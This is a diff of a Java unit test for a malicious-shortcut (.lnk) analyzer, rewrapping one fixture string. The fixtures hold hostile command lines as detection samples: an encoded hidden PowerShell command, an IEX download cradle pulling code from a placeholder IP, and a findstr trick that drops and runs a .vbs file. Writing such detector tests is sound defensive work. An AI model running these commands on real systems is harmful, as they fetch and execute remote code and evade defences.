@@ -114,7 +114,8 @@ class LnkAnalyzerTest {
                 "lnk.encoded-command", "-NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=",
                 "lnk.download-cradle", "-c \"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')\"",
                 "lnk.self-extraction",
-                        "/v:on /c findstr \"glKmfOKnQLYKnNs.*\" Form.pdf.lnk > \"%tmp%\\YlScZcZKeP.vbs\" & \"%tmp%\\YlScZcZKeP.vbs\"",
+                        "/v:on /c findstr \"glKmfOKnQLYKnNs.*\" Form.pdf.lnk > \"%tmp%\\YlScZcZKeP.vbs\" "
+                                + "& \"%tmp%\\YlScZcZKeP.vbs\"",
                 "lnk.obfuscated-command", "/c set x=calc&& call %x:~0,4%",
                 "lnk.hidden-execution", "-ExecutionPolicy Bypass -File x.ps1",
                 "lnk.url-in-command", "/c start https://example.test/invoice");
